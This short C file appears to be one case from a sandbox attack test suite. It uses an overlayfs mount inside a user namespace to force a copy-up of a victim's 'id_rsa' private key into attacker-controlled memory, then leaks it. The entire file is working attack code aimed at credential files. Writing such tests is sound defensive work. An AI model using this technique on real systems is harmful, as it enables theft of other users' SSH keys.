/* SPDX-License-Identifier: Apache-2.0 */
/* An overlay in an own user namespace copies the victim's file up into memory of the attacker's: by opens of the kernel's own. */
#define ATTACK "overlay-copy-up"
#include "attack.h"
#include <sys/mount.h>

int main(int count, char **argument)
{
	char *memory = text("%s/copies", argument[2]), *merged = text("%s/merged", memory);
	char *upper = text("%s/upper", memory), *work = text("%s/work", memory);

	(void)count;
	become_namespace_root(CLONE_NEWNS);
	prepare("mkdir", mkdir(memory, 0700));
	prepare("mount", mount("none", memory, "tmpfs", 0, NULL));
	prepare("mkdir", mkdir(merged, 0700) | mkdir(upper, 0700) | mkdir(work, 0700));
	intended("overlay", mount("overlay", merged, "overlay", 0,
				  text("lowerdir=%s,upperdir=%s,workdir=%s,userxattr", argument[1], upper, work)));
	/* the times of a file are changed in the copy */
	intended("times", utimensat(AT_FDCWD, text("%s/id_rsa", merged), NULL, 0));
	open_and_leak(text("%s/id_rsa", upper));
}
